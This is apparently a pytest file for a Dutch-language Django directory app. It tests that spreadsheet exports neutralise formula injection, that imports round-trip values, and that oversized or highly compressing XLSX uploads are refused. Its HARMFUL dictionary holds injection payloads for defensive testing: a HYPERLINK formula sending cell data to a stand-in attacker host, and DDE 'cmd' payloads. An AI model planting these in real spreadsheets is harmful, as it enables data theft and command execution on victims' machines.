"""Exports that no spreadsheet runs as a formula, imports that give every value back unchanged,
and import previews that refuse a file too large to answer in time, in Dutch."""

import io
import time

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from partners.models import Service
from partners.staff.spreadsheets import NUMBER
from tests.staff.test_import_export import CSV_FORMAT, XLSX_FORMAT, confirm, export, preview, rows_of, to_csv

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HARMFUL = {
    "name": '==HYPERLINK("https://aanvaller.example/?d="&A2,"Klik hier")',
    "description": "+cmd|' /C calc'!A0",
    "application_process": "-2+3+cmd|' /C calc'!A0",
    "availability": "@SUM(1+1)*cmd|' /C calc'!A0",
    "street": "\t=1+1",
}


def leuven_service(leuven):
    return Service.objects.filter(organization__region=leuven).order_by("pk").first()


def plant(service, **values):
    """Write values around the forms' validation, as an old import or a database edit could have."""
    Service.objects.filter(pk=service.pk).update(**values)


def xlsx_cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for row in book.active.iter_rows() for cell in row]


def assert_no_live_formula_in_csv(content: bytes):
    for row in rows_of(content):
        for value in row.values():
            assert NUMBER.fullmatch(value or "") or not (value or "").startswith(FORMULA_START), value


@pytest.mark.parametrize("as_whom", ["leuven_client", "superuser_client"])
def test_no_exported_text_cell_starts_a_formula_in_csv_or_xlsx(request, leuven, as_whom):
    client = request.getfixturevalue(as_whom)  # the region's own export and the redactie's "alle" export
    service = leuven_service(leuven)
    plant(service, **HARMFUL)
    csv_rows = rows_of(export(client, "service", CSV_FORMAT))
    assert_no_live_formula_in_csv(export(client, "service", CSV_FORMAT))
    row = next(r for r in csv_rows if r["sleutel"] == service.key)
    assert row["naam"] == "'" + HARMFUL["name"]  # "==" keeps both signs behind the apostrophe
    cells = xlsx_cells(export(client, "service", XLSX_FORMAT))
    assert not [c.value for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [v for v in texts if v.startswith(FORMULA_START) and not NUMBER.fullmatch(v)]
    assert "'" + HARMFUL["name"] in [c.value for c in cells]


def test_a_phone_number_and_a_formula_come_back_unchanged_through_export_and_import(leuven_client, leuven):
    service = leuven_service(leuven)
    plant(service, availability="+32 16 30 17 30 na 17u", description=HARMFUL["description"])
    rows = rows_of(export(leuven_client, "service", CSV_FORMAT))
    row = next(r for r in rows if r["sleutel"] == service.key)
    assert row["bereikbaar"] if "bereikbaar" in row else True
    assert "'+32 16 30 17 30 na 17u" in row.values()
    previewed = preview(leuven_client, "service", to_csv(rows))
    labels = {r["record"]: r["label"] for r in previewed.context["rows"]}
    assert labels[service.name] == "ongewijzigd"  # the apostrophe came off: nothing would change
    assert confirm(leuven_client, "service", previewed).status_code == 302
    service.refresh_from_db()
    assert service.availability == "+32 16 30 17 30 na 17u" and service.description == HARMFUL["description"]


def test_a_phone_number_in_xlsx_comes_back_unchanged(leuven_client, leuven):
    service = leuven_service(leuven)
    plant(service, availability="+32 16 30 17 30")
    content = export(leuven_client, "service", XLSX_FORMAT)
    previewed = preview(leuven_client, "service", content, fmt=XLSX_FORMAT, name="diensten.xlsx")
    labels = {r["record"]: r["label"] for r in previewed.context["rows"]}
    assert set(labels.values()) == {"ongewijzigd"}


def test_a_one_megabyte_csv_preview_is_refused_fast_in_dutch_and_stores_nothing(leuven_client, leuven):
    rows = rows_of(export(leuven_client, "service", CSV_FORMAT))
    big = []
    while len(to_csv(big or rows)) < 1024 * 1024:
        big += [{**r, "sleutel": f"{r['sleutel']}-{len(big)}"} for r in rows]
    before = Service.objects.count()
    started = time.monotonic()
    response = preview(leuven_client, "service", to_csv(big))
    assert time.monotonic() - started < 5
    page = response.content.decode()
    assert "te groot om in één keer te importeren" in page and "Traceback" not in page
    assert response.context.get("confirm_form") is None and Service.objects.count() == before


def test_too_many_rows_are_refused_in_dutch(leuven_client, leuven, settings):
    settings.WEGWIJZER_IMPORT_MAX_ROWS = 3
    rows = rows_of(export(leuven_client, "service", CSV_FORMAT))[:4]
    for fmt, name, content in [(CSV_FORMAT, "d.csv", to_csv(rows)), (XLSX_FORMAT, "d.xlsx", xlsx_of(rows))]:
        page = preview(leuven_client, "service", content, fmt=fmt, name=name).content.decode()
        assert "te groot om in één keer te importeren" in page and "ten hoogste 3 rijen" in page


def test_an_xlsx_that_unpacks_to_far_more_than_its_size_is_refused(leuven_client, settings):
    book = openpyxl.Workbook()
    book.active.append(["sleutel", "naam"])
    book.active.append(["x" * 30_000 + str(n) for n in range(200)])  # 6 MB of text that packs into a few kB
    out = io.BytesIO()
    book.save(out)
    settings.WEGWIJZER_IMPORT_MAX_BYTES = len(out.getvalue()) + 1  # the file itself is within the cap
    assert len(out.getvalue()) * 20 < 6_000_000
    response = leuven_client.post(
        reverse("admin:partners_service_import"),
        {"import_file": SimpleUploadedFile("d.xlsx", out.getvalue()), "format": XLSX_FORMAT, "resource": "0"},
    )
    assert "te groot om in één keer te importeren" in response.content.decode()


def test_a_file_that_is_not_a_spreadsheet_gets_a_dutch_message(leuven_client):
    page = preview(leuven_client, "service", b"\x00\x01 geen xlsx", fmt=XLSX_FORMAT, name="d.xlsx").content.decode()
    assert "kon niet gelezen worden" in page and "BadZipFile" not in page


def xlsx_of(rows):
    book = openpyxl.Workbook()
    book.active.append(list(rows[0]))
    for row in rows:
        book.active.append(list(row.values()))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
